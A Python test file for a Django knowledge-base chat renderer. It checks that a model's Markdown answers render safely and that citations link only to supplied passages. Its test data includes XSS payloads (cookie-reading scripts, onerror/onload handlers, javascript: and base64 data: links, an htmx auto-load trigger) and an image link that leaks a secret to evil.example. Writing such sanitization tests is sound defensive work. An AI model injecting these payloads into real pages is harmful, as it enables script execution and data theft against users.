"""An answer's Markdown renders; nothing the model writes becomes markup of its own; citations link to passages."""

from html.parser import HTMLParser

import pytest
from django.urls import reverse

from kb.chat.rendering import answer_html

CHUNK_OF_PASSAGE = {1: 101, 2: 102}
SAFE_TAGS = {"p", "br", "strong", "em", "code", "pre", "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td"}
CITATION_ATTRIBUTES = {"class", "href", "hx-get", "hx-target", "hx-push-url"}


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    """Every element of the HTML as a browser's parser sees it: its tag and its attributes."""
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.found


def citation_links(html: str) -> list[dict[str, str | None]]:
    return [attrs for tag, attrs in elements(html) if tag == "a" and attrs.get("class") == "citation"]


def test_lists_code_blocks_tables_emphasis_and_inline_code_render():
    answer = (
        "Set it up in **two** steps, *in order*:\n\n"
        "1. Install `wireguard`.\n"
        "2. Import the profile:\n\n"
        "```sh\nwg-quick up office\n```\n\n"
        "| Gateway | Port |\n|---|---|\n| Berlin | 51820 |\n"
    )

    html = answer_html(answer, chunk_by_number={})

    assert "<strong>two</strong>" in html and "<em>in order</em>" in html
    assert "<ol>\n<li>Install <code>wireguard</code>.</li>" in html
    assert "<pre><code>wg-quick up office\n</code></pre>" in html
    assert "<th>Gateway</th>" in html and "<td>51820</td>" in html
    assert {tag for tag, _ in elements(html)} <= SAFE_TAGS


def test_a_single_newline_stays_a_line_break_as_it_looked_while_streaming():
    assert answer_html("First line\nsecond line", chunk_by_number={}) == "<p>First line<br>\nsecond line</p>\n"


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(document.cookie)</script>",
        "<img src=x onerror=alert(1)>",
        "[click me](javascript:alert(1))",
        "[click me](JaVaScRiPt:alert(1))",
        "<a href=javascript:alert(1)>click me</a>",
        '<a hx-get="/audit/queries/" hx-trigger="load" hx-target="body">open</a>',
        '<iframe src="https://evil.example/"></iframe>',
        "<style>body { display: none }</style>",
        '<svg onload="alert(1)"></svg>',
        "<!-- a comment --><p onclick=alert(1)>text</p>",
        "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <script>alert(2)</script> |",
        "- item <b onmouseover=alert(1)>bold</b>\n- `<script>` in code",
        "![tracking pixel](https://evil.example/leak?q=secret)",
        "[link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    ],
)
def test_markup_in_the_model_s_answer_is_shown_as_text_never_run(hostile):
    html = answer_html(f"Here is the answer [1].\n\n{hostile}", chunk_by_number=CHUNK_OF_PASSAGE)

    for tag, attrs in elements(html):
        if tag == "a" and attrs.get("class") == "citation":
            assert set(attrs) == CITATION_ATTRIBUTES and attrs["href"] == reverse("search:passage", args=[101])
        elif tag == "a":
            assert set(attrs) <= {"href", "rel"} and attrs["href"].startswith(("http:", "https:"))
        else:
            assert tag in SAFE_TAGS and not attrs, (tag, attrs)
    assert len(citation_links(html)) == 1


def test_raw_html_comes_out_escaped_in_a_paragraph_and_in_a_table_cell():
    html = answer_html(
        "<script>alert(1)</script>\n\n| a |\n|---|\n| <img src=x onerror=alert(1)> |", chunk_by_number={}
    )

    assert "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>" in html
    assert "<td>&lt;img src=x onerror=alert(1)&gt;</td>" in html


def test_a_javascript_link_is_left_as_its_text_and_a_web_link_opens_nothing_of_the_page():
    html = answer_html("[bad](javascript:alert(1)) and [good](https://docs.example/vpn)", chunk_by_number={})

    assert 'href="javascript' not in html and "[bad](javascript:alert(1))" in html
    assert '<a href="https://docs.example/vpn" rel="noopener noreferrer nofollow">good</a>' in html


def test_a_citation_of_a_passage_the_model_was_given_links_to_that_passage():
    html = answer_html("Use the Berlin gateway [2].", chunk_by_number=CHUNK_OF_PASSAGE)

    url = reverse("search:passage", args=[102])
    assert html == (
        f'<p>Use the Berlin gateway <a class="citation" href="{url}" hx-get="{url}" hx-target="#passage-panel" '
        'hx-push-url="false">[2]</a>.</p>\n'
    )


def test_a_citation_of_a_passage_the_model_was_not_given_is_removed():
    html = answer_html("Use the Berlin gateway [7][1].", chunk_by_number=CHUNK_OF_PASSAGE)

    assert "[7]" not in html
    assert [link["href"] for link in citation_links(html)] == [reverse("search:passage", args=[101])]


def test_a_citation_in_code_or_in_a_link_s_text_stays_literal():
    html = answer_html(
        "Index with `items[1]`:\n\n```python\nfirst = items[1]\n```\n\n[see [1]](https://docs.example/)",
        chunk_by_number=CHUNK_OF_PASSAGE,
    )

    assert "<code>items[1]</code>" in html and "first = items[1]" in html
    assert '<a href="https://docs.example/" rel="noopener noreferrer nofollow">see [1]</a>' in html
    assert not citation_links(html)


def test_the_model_cannot_point_a_citation_elsewhere_or_forge_one():
    # A reference definition would make every [1] a link to the model's URL; private-use characters are what the
    # renderer marks citations with on their way to becoming links.
    html = answer_html("See [1].\n\n[1]: https://evil.example/\n\nAnd \ue0002\ue001.", chunk_by_number=CHUNK_OF_PASSAGE)

    assert not any("evil" in (attrs.get("href") or "") for _, attrs in elements(html))
    assert [link["href"] for link in citation_links(html)] == [reverse("search:passage", args=[101])] * 2


def test_the_record_counts_as_citations_exactly_what_the_page_links():
    from kb.chat.context import PromptPassage
    from kb.chat.services import answer_citations
    from kb.search.selectors import PassageHit

    def passage(number: int) -> PromptPassage:
        hit = PassageHit(
            chunk_id=100 + number,
            document_id=number,
            version_id=number,
            document_title="",
            collection_name="",
            heading="",
            text="",
            score=0.0,
        )
        return PromptPassage(number=number, hit=hit, text="")

    answer = "Use `items[2]` or\n\n```\nrow[3]\n```\nas the docs say [1], and see [4]."

    cited, unknown = answer_citations(answer=answer, passages=[passage(1), passage(2), passage(3)])

    assert [citation["number"] for citation in cited] == [1]
    assert unknown == [4]
    assert answer_html(answer, chunk_by_number={1: 101, 2: 102, 3: 103}).count('class="citation"') == 1
